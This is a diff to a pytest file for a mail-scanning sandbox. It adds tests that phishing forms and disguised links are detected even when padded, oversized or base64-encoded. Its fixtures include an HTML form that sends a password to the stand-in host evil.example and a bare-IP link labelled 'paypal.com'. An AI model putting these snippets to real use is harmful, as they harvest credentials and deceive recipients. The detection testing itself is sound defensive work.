@@ -1,5 +1,6 @@
 """Files built to stop whoever reads them: each costs its own turn, is told, and what comes after it is examined."""
 
+import base64
 import os
 import time
 from collections.abc import Callable, Iterable, Iterator
@@ -11,7 +12,7 @@ import pytest
 from daemon.sandbox import Examiner
 from mailflows.examine.archives import looks as archives
 from mailflows.examine.files import looks as files
-from mailflows.examine.finding import Finding, Group
+from mailflows.examine.finding import Finding, Group, Severity
 from mailflows.examine.opener import LARGEST
 from mailflows.examine.seen import Part, Saw
 from mailflows.examine.turn import take_turn
@@ -206,3 +207,32 @@ def test_archives_are_opened_behind_the_walls(examiner: Examiner, content: bytes
 def test_a_dangerous_file_is_packed_behind_the_walls(examiner: Examiner) -> None:
     whole = examiner.packed(mail("look", part(ORDER["order.exe"], "application/x", "../order.exe")), "mail/2")
     assert whole and b"order.exe.bin" in whole and ORDER["order.exe"] not in whole
+
+
+FORM = b"<form action='https://evil.example/p'><input type=password name=p></form>"
+
+
+@pytest.mark.parametrize("open_tag", [b"<div>", b"<b>", b"<table><td>", b"<svg><g>", b"<a>"])
+def test_a_form_below_a_thousand_elements_is_seen_where_a_browser_shows_it(open_tag: bytes) -> None:
+    turn = take_turn(mail("look", part(b"<html>" + open_tag * 2_000 + FORM, "text/html", "login.html")), "mail/2")
+    assert any(one.look == "F10" and one.severity is Severity.HIGH for one in turn.findings)
+
+
+def test_a_page_that_is_too_long_to_be_read_is_told() -> None:
+    long = b"<html>" + b"<p>good morning</p>" * 80_000
+    told = take_turn(mail("look", part(long + FORM, "text/html", "login.html")), "mail/2").findings
+    assert any("not read to its end" in one for one in covered(told))
+    drawn = b"<html><img src='data:image/png;base64," + b"iVBORw0KGgo" * 200_000 + b"'>"
+    told = take_turn(mail("look", part(drawn + FORM, "text/html", "login.html")), "mail/2").findings
+    assert not covered(told) and any(one.look == "F10" and one.weight > 4 for one in told)
+
+
+@pytest.mark.parametrize("before", [b"<p>good morning</p>" * 80_000, b"<a href='https://example.org/'></a>" * 600])
+def test_a_mail_that_hides_its_link_behind_a_thousand_others_is_told(before: bytes) -> None:
+    page = base64.encodebytes(b"<html>" + before + b"<a href='http://203.0.113.9/'>paypal.com</a>")
+    head = b"From: a@x.example\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+    assert "its text or its links are more than is read" in covered(
+        take_turn(head + page, "suspect").findings, "suspect"
+    )
+    short = b"From: a@x.example\r\nContent-Type: text/html\r\n\r\n<a href='https://example.org/'>x</a>"
+    assert not covered(take_turn(short, "suspect").findings, "suspect")
